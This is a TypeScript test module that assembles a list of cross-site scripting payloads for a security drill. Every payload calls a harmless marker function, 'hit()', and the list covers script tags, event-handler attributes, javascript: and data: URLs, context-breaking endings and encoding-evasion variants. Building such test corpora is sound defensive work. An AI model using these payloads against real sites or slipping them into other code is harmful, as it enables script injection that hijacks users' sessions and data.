/** A script that ran says so by this name, which the drill gives to every page. */
export const hitFunctionName = "hit";

const run = `${hitFunctionName}()`;

/** Each would run in one place where somebody forgot to escape: in text, in an attribute, in a script, in an address. */
const bodies = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=data:,${run}></script>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<video src=x onerror=${run}>`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src=javascript:parent.${run}>`,
  `<iframe onload=${run}>`,
  `<object data=javascript:${run}>`,
  `<embed src=javascript:${run}>`,
  `<a href=javascript:${run}>a</a>`,
  `<math href=javascript:${run}>a`,
  `<form action=javascript:${run}><input type=submit>`,
  `<button formaction=javascript:${run}>a`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href=javascript:/x/;${run}//>`,
  `<style>*{animation:a}@keyframes a{}</style><p onanimationstart=${run}>`,
  `<marquee onstart=${run}>`,
  `<xss style=animation:a onanimationend=${run}>`,
  `<template><script>${run}</script></template>`,
];

/** What closes the place the text stands in. */
const endings = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->"];

const others = [
  `" onmouseover=${run} x="`,
  `' onmouseover=${run} x='`,
  `" autofocus onfocus=${run} x="`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://x%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `';${run}//`,
  `";${run}//`,
  `\`\${${run}}\``,
  `\\";${run}//`,
  `a\u2028${run}\u2029b`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<![CDATA[<]]><svg onload=${run}>`,
  `<a.html><img src=x onerror=${run}>.png`,
];

export const payloads: string[] = [
  ...endings.flatMap((ending) => bodies.map((body) => ending + body)),
  ...others,
];

/** For columns that hold an address; one with a tab is stored without it, as a contract reads it. */
export const addressPayloads: string[] = [
  ...others.filter((text) => /script:|^data:/.test(text) && !text.includes("\t")),
  `https://x.example/"><img src=x onerror=${run}>`,
  `https://x.example/' onmouseover=${run} '`,
];
